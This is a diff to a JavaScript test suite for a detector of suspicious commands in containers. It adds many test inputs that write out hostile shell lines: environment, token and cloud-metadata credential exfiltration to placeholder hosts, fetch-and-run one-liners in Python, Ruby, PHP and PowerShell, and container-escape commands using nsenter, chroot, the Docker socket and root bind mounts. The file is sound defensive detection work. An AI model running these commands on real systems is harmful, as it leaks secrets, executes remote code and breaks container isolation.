@@ -39,6 +39,16 @@ describe('suspicious-command finds', () => {
     ['worker --donate-level 1'],
     [`cat ${TOKEN} | curl -d @- https://e.example`],
     [`curl -H "X: $(cat ${TOKEN})" https://e.example`],
+    ['env | curl -d @- https://e.example'],
+    ['printenv -0 | nc 10.0.0.1 80'],
+    ['cat /proc/1/environ | wget --post-file=- https://e.example'],
+    ['curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x | curl -d @- https://e.example'],
+    [`python3 -c "import urllib.request as u;exec(u.urlopen('http://10.0.0.1/a').read())"`],
+    [`ruby -e 'require "open-uri"; eval(URI.open("http://10.0.0.1/a").read)'`],
+    [`php -r 'eval(file_get_contents("http://10.0.0.1/a"));'`],
+    [`pwsh -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"`],
+    ['pwsh -c "iwr -useb http://10.0.0.1/a.ps1 | iex"'],
+    ['powershell.exe -NoProfile -enc SQBFAFgA'],
     ['echo "* * * * * x" > /etc/cron.d/x'],
     ['echo key >> /root/.ssh/authorized_keys'],
     ['echo key | tee -a /host/root/.ssh/authorized_keys'],
@@ -195,6 +205,14 @@ describe('suspicious-command leaves alone', () => {
     ['mineral --pool data'],
     ['constructor; toString; __proto__ install'],
     ['psql -c "create table x"'],
+    ['env | sort'],
+    ['env | nc localhost 9000'],
+    ['printenv HOME | curl -d @- https://e.example'],
+    ['curl -s -X PUT http://169.254.169.254/latest/api/token | tee /tmp/token'],
+    [`python3 -c "exec(open('/app/x.py').read())"`],
+    [`python3 -c "import requests; print(requests.get('http://api/x'))"`],
+    ['pwsh -ExecutionPolicy Bypass -File x.ps1'],
+    ['pwsh -c "iwr http://localhost/health"'],
     ['sh -c "sleep 5"'],
     ['python3 -c "import socket; socket.create_connection((\'db\', 5432))"'],
   ])('%s', (script) => {
@@ -206,6 +224,9 @@ describe('suspicious-command', () => {
   it('warns of programs that are downloaded and run in two steps', () => {
     expect(inShell('curl -sLo /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x')).toEqual(['warning']);
     expect(inShell('wget -O /tmp/x.sh https://e.example/x; sh /tmp/x.sh')).toEqual(['warning']);
+    expect(inShell('wget https://e.example/x -O /tmp/x; chmod 777 /tmp/x; nohup /tmp/x &')).toEqual(['warning']);
+    expect(inShell('curl -o /tmp/x https://e.example/x; exec su-exec app /tmp/x -v')).toEqual(['warning']);
+    expect(inShell('curl -o /tmp/x https://e.example/x; cp /tmp/x /usr/bin/')).toEqual([]);
     expect(inShell('curl -o /data/GeoIP.mmdb https://e.example/x; exec web /data/GeoIP.mmdb')).toEqual([]);
   });
 
@@ -270,7 +291,19 @@ describe('escapes-to-host', () => {
     'nsenter -t 1 -m -u -i -n -p -- sh',
     'nsenter --target 1 --mount sh',
     'nsenter --target=1 --mount sh',
+    'nsenter --mount=/proc/1/ns/mnt -- bash',
+    'nsenter -m/host/proc/1/ns/mnt ls',
+    'nsenter -at1 ls',
     'chroot /host /bin/bash',
+    'chroot /hostroot sh',
+    'chroot /host-fs sh',
+    'chroot /node-root sh',
+    'chroot /root-mount sh',
+    'docker -H unix:///run/docker.sock run --rm -v /:/host alpine id',
+    'docker run --mount=type=bind,source=/,target=/host alpine',
+    'nerdctl run --volume /:/host alpine',
+    'podman create --volume=/:/host alpine',
+    'ctr run --mount type=bind,src=/,dst=/host,options=rbind:rw img x',
     'echo "|/x" > /proc/sys/kernel/core_pattern',
     'echo /x | tee /sys/fs/cgroup/rdma/release_agent',
     'sysctl -w kernel.core_pattern="|/x %p"',
@@ -278,12 +311,19 @@ describe('escapes-to-host', () => {
     expect(inShell(script, 'escapes-to-host')).toEqual(['error']);
   });
 
-  it.each(['nsenter -t 12345 -n ip a', 'chroot /srv/jail httpd', 'cat /proc/sys/kernel/core_pattern'])(
-    'leaves alone %s',
-    (script) => {
-      expect(inShell(script, 'escapes-to-host')).toEqual([]);
-    },
-  );
+  it.each([
+    'nsenter -t 12345 -n ip a',
+    'nsenter --net=/proc/77/ns/net ip a',
+    'nsenter --net=/run/netns/x cat /proc/1/ns',
+    'chroot /srv/jail httpd',
+    'chroot /hosting sh',
+    'docker run -v /data:/data alpine',
+    'docker run --mount type=bind,src=/data,dst=/ alpine',
+    'docker build -t /:/ .',
+    'cat /proc/sys/kernel/core_pattern',
+  ])('leaves alone %s', (script) => {
+    expect(inShell(script, 'escapes-to-host')).toEqual([]);
+  });
 
   it('knows that DaemonSets tune nodes', () => {
     const pod = podRunning(['nsenter', '-t', '1', '-m', 'sh']);
